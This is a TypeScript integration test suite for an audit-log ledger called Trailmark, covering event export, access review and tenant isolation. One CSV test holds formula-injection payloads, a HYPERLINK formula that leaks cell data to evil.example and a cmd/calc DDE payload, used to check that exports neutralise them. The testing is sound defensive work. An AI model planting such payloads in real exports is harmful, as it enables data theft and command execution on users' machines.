// What an auditor does with the ledger over HTTP: export (NDJSON, CSV, OCSF, evidence verified offline with
// trailmark-verify), review who held a role at an instant, see that every read is itself in the log; and the
// tenant isolation matrix: every read path refuses other tenants' tokens, missing and unknown tokens, and
// ingest-only tokens, without telling what exists.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Api, expectError, loginEvent, roleGrantedEvent, verifyProofBody, writeTokensFile, type ProofBody, type ReceiptBody } from '../support/http-api.js';
import { makeDataDir, startLedger, type LedgerProcess } from '../support/ledger-process.js';
import { runCli } from '../support/run-cli.js';

const TOKENS = {
  acmeReader: { name: 'acme-reader', token: 'acme-reader-token', roles: ['reader'], tenants: ['acme'] },
  acmeAuditor: { name: 'acme-auditor', token: 'acme-auditor-token', roles: ['auditor'], tenants: ['acme'] },
  acmeIngest: { name: 'acme-ingest', token: 'acme-ingest-token', roles: ['ingest'], tenants: ['acme'] },
  globexAuditor: { name: 'globex-auditor', token: 'globex-auditor-token', roles: ['auditor'], tenants: ['globex'] },
};

let ledger: LedgerProcess;
let cleanup: () => Promise<void>;
let admin: Api;
let work: string;
const grants: Record<string, ReceiptBody> = {};
/** Server times around the role changes: before any, between grant and revoke, after the revoke. */
const instants: Record<'before' | 'granted' | 'revoked', string> = { before: '', granted: '', revoked: '' };

function grant(user: string, role: string, action = 'role.granted'): Record<string, unknown> {
  return roleGrantedEvent({ action, targets: [{ type: 'user', id: user }, { type: 'role', id: role }] });
}

async function serverTimeNow(): Promise<string> {
  return (await admin.record(loginEvent({ tenant: 'acme' }))).time;
}

beforeAll(async () => {
  const dir = makeDataDir();
  cleanup = dir.cleanup;
  work = mkdtempSync(join(tmpdir(), 'trailmark-auditor-'));
  ledger = await startLedger(dir.dataDir, { TRAILMARK_TOKENS_FILE: writeTokensFile(work, Object.values(TOKENS)) });
  admin = new Api(ledger.url);
  for (let i = 0; i < 30; i++) await admin.record(loginEvent({ tenant: i % 3 === 0 ? 'globex' : 'acme' }));
  instants.before = await serverTimeNow();
  grants.alice = await admin.record(grant('alice', 'admin'));
  grants.bob = await admin.record(grant('bob', 'admin'));
  await admin.record({ ...grant('mallory', 'admin'), outcome: 'failure', reason: 'not approved' });
  await admin.record({ ...grant('carol', 'admin'), tenant: 'globex' });
  instants.granted = await serverTimeNow();
  await admin.record(grant('bob', 'admin', 'role.revoked'));
  instants.revoked = await serverTimeNow();
  // Every event so far is covered by a checkpoint: exports end at the latest one.
  await admin.record(loginEvent({ tenant: 'acme' }), '?wait=checkpoint');
});

afterAll(async () => {
  expect(await ledger.stop()).toBe(0);
  await cleanup();
  rmSync(work, { recursive: true, force: true });
});

const as = (entry: { token: string }) => new Api(ledger.url, entry.token);

async function exported(format: string, query = 'tenant=acme', api = as(TOKENS.acmeReader)): Promise<string> {
  const reply = await api.get(`/v1/events/export?${query}&format=${format}`);
  expect(reply.status).toBe(200);
  return reply.text;
}

describe('export', () => {
  test('NDJSON: the tenant\'s events in leaf order, ending with the signed checkpoint they are all below', async () => {
    const lines = (await exported('ndjson', 'tenant=acme&action=user.login')).trimEnd().split('\n').map((line) => JSON.parse(line));
    const end = lines.pop() as { checkpoint: string; treeSize: number; events: number };
    const { checkpoint } = await admin.checkpoint();
    expect(end.events).toBe(lines.length);
    expect(end.treeSize).toBeLessThanOrEqual(Number(checkpoint.size));
    expect(lines.length).toBeGreaterThanOrEqual(20);
    const indexes = lines.map((line: { leafIndex: number }) => line.leafIndex);
    expect(indexes).toEqual([...indexes].sort((a, b) => a - b));
    expect(indexes.every((index: number) => index < end.treeSize)).toBe(true);
    expect(lines.every((line: { event: { tenant: string; action: string } }) => line.event.tenant === 'acme' && line.event.action === 'user.login')).toBe(true);
  });

  test('CSV: a header, a row an event, and the checkpoint as the last record', async () => {
    const text = await exported('csv', 'tenant=acme&action=role.*');
    const [header, ...rest] = text.split('\n');
    expect(header).toBe('leafIndex,id,time,tenant,action,outcome,reason,actorType,actorId,targets');
    const rows = rest.filter((line) => /^\d+,/.test(line));
    expect(rows).toHaveLength(4);
    expect(rows.every((row) => row.split(',')[3] === 'acme')).toBe(true);
    expect(text).toContain('\n#checkpoint,"');
  });

  test('CSV: a cell a spreadsheet would run as a formula (= + - @) is exported as quoted text behind a single quote', async () => {
    const formulas = [
      { reason: '=HYPERLINK("https://evil.example/?leak="&A1,"open")', actor: { type: 'user', id: '@SUM(1+1)' } },
      { reason: '+1+cmd|\' /C calc\'!A0', actor: { type: 'user', id: '-2+3' } },
    ];
    for (const overrides of formulas) await admin.record(loginEvent({ tenant: 'formula', ...overrides }), '?wait=checkpoint');
    const rows = (await exported('csv', 'tenant=formula', admin)).split('\n').filter((line) => /^\d+,/.test(line));
    expect(rows).toHaveLength(2);
    expect(rows[0]).toContain(',"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""open"")",');
    expect(rows[0]).toContain(',"\'@SUM(1+1)",');
    expect(rows[1]).toContain(',"\'+1+cmd|\' /C calc\'!A0",');
    expect(rows[1]).toContain(',"\'-2+3",');
    // No cell of any row starts with a formula character once the quoting is taken off.
    for (const row of rows) expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
  });

  test('OCSF: one OCSF event a line, with its class, tenant and product', async () => {
    const lines = (await exported('ocsf', 'tenant=acme&action=role.granted')).trimEnd().split('\n').map((line) => JSON.parse(line));
    const end = lines.pop();
    expect(end.checkpoint).toMatch(/^trailmark\.local\/log\n/);
    expect(lines).toHaveLength(3);
    for (const ocsf of lines) {
      expect(ocsf).toMatchObject({ class_uid: 3005, category_uid: 3, metadata: { tenant_uid: 'acme', product: { name: 'Trailmark' } } });
      expect(ocsf.type_uid).toBe(ocsf.class_uid * 100 + ocsf.activity_id);
    }
  });

  test('evidence: trailmark-verify bundle checks it offline and counts the events; one changed byte fails it', async () => {
    const bundle = join(work, 'evidence.ndjson');
    writeFileSync(bundle, await exported('evidence', 'tenant=acme', as(TOKENS.acmeAuditor)));
    const key = await admin.verifierKey();
    const ok = await runCli(['bundle', '--key', key, bundle]);
    expect([ok.code, ok.stderr]).toEqual([0, expect.any(String)]);
    const count = readFileSync(bundle, 'utf8').trimEnd().split('\n').length - 2;
    expect(ok.stdout).toContain(`OK bundle: ${count} events verified`);

    const lines = readFileSync(bundle, 'utf8').split('\n');
    const tampered = JSON.parse(lines[3]!) as { leaf: string };
    const leaf = Buffer.from(tampered.leaf, 'base64');
    leaf[leaf.length - 3]! ^= 1;
    lines[3] = JSON.stringify({ ...tampered, leaf: leaf.toString('base64') });
    writeFileSync(bundle, lines.join('\n'));
    const failed = await runCli(['bundle', '--key', key, bundle]);
    expect(failed.code).toBe(1);
    expect(failed.stderr).toMatch(/line 4/);
  });

  test('an unknown format is a 400 naming the parameter', async () => {
    expectError(await as(TOKENS.acmeReader).get('/v1/events/export?tenant=acme&format=xml'), 400, 'bad_request');
  });

  test('each export is recorded in the tenant as audit_log.exported, with the token name as actor', async () => {
    await exported('ndjson', 'tenant=acme&action=user.logout');
    const reply = await as(TOKENS.acmeReader).get<{ events: { event: { action: string; actor: { id: string } } }[] }>(
      '/v1/events?tenant=acme&action=audit_log.exported&actor=acme-reader',
    );
    expect(reply.status).toBe(200);
    expect(reply.json.events.length).toBeGreaterThan(0);
  });
});

describe('access review', () => {
  const review = (at: string, tenant = 'acme', api = as(TOKENS.acmeAuditor), role = '') =>
    api.get<{ holdings: { subject: { type: string; id: string }; role: string; granted: { id: string; leafIndex: number } }[] }>(
      `/v1/tenants/${tenant}/access?at=${at}${role}`,
    );

  test('who held a role at an instant, each with the grant that proves it', async () => {
    expect((await review(instants.before)).json.holdings).toEqual([]);
    const during = await review(instants.granted);
    expect(during.status).toBe(200);
    expect(during.json.holdings.map((holding) => holding.subject.id)).toEqual(['alice', 'bob']);
    const alice = during.json.holdings[0]!;
    expect(alice.granted).toEqual({ id: grants.alice!.id, leafIndex: grants.alice!.leafIndex });
    const proof = await admin.get<ProofBody>(`/v1/events/${alice.granted.id}/proof`);
    verifyProofBody(proof.json, await admin.verifierKey());
    expect((await review(instants.revoked)).json.holdings.map((holding) => holding.subject.id)).toEqual(['alice']);
    expect((await review(instants.granted, 'acme', as(TOKENS.acmeAuditor), '&role=viewer')).json.holdings).toEqual([]);
  });

  test('at is required and must be RFC 3339', async () => {
    expectError(await as(TOKENS.acmeAuditor).get('/v1/tenants/acme/access'), 400, 'bad_request');
    expectError(await as(TOKENS.acmeAuditor).get('/v1/tenants/acme/access?at=yesterday'), 400, 'bad_request');
  });
});

describe('tenant isolation: every read path', () => {
  const reads = (): { name: string; path: () => string }[] => [
    { name: 'search', path: () => '/v1/events?tenant=acme' },
    { name: 'export', path: () => '/v1/events/export?tenant=acme&format=ndjson' },
    { name: 'access review', path: () => `/v1/tenants/acme/access?at=${instants.revoked}` },
    { name: 'event by id', path: () => `/v1/events/${grants.alice!.id}` },
    { name: 'proof by id', path: () => `/v1/events/${grants.alice!.id}/proof` },
  ];

  test.each([
    ['another tenant\'s token', TOKENS.globexAuditor.token, [403, 404]],
    ['no token', undefined, [401]],
    ['an unknown token', 'no-such-token', [401]],
    ['an ingest-only token of the tenant', TOKENS.acmeIngest.token, [403]],
  ])('%s is refused, and the answer holds no event, count or cursor', async (_, token, statuses) => {
    for (const read of reads()) {
      const reply = await new Api(ledger.url, token).get(read.path());
      expect([read.name, statuses.includes(reply.status)]).toEqual([read.name, true]);
      const body = reply.json as Record<string, unknown>;
      expect([read.name, Object.keys(body)]).toEqual([read.name, ['error']]);
    }
  });

  test('another tenant\'s event is answered exactly like an event that does not exist', async () => {
    const globex = new Api(ledger.url, TOKENS.globexAuditor.token);
    const theirs = await globex.get(`/v1/events/${grants.alice!.id}`);
    const missing = await globex.get('/v1/events/01a20000-0000-7000-8000-000000000000');
    expect(theirs.status).toBe(missing.status);
    expect((theirs.json as { error: { code: string } }).error.code).toBe((missing.json as { error: { code: string } }).error.code);
    const otherTenant = await globex.get('/v1/events?tenant=acme');
    const noTenant = await globex.get('/v1/events?tenant=no-such-tenant');
    expect([otherTenant.status, (otherTenant.json as { error: { code: string } }).error.code]).toEqual([
      noTenant.status,
      (noTenant.json as { error: { code: string } }).error.code,
    ]);
  });

  test('a reader token cannot record events', async () => {
    expectError(await as(TOKENS.acmeReader).post('/v1/events', loginEvent({ tenant: 'acme' })), 403, 'forbidden');
  });
});
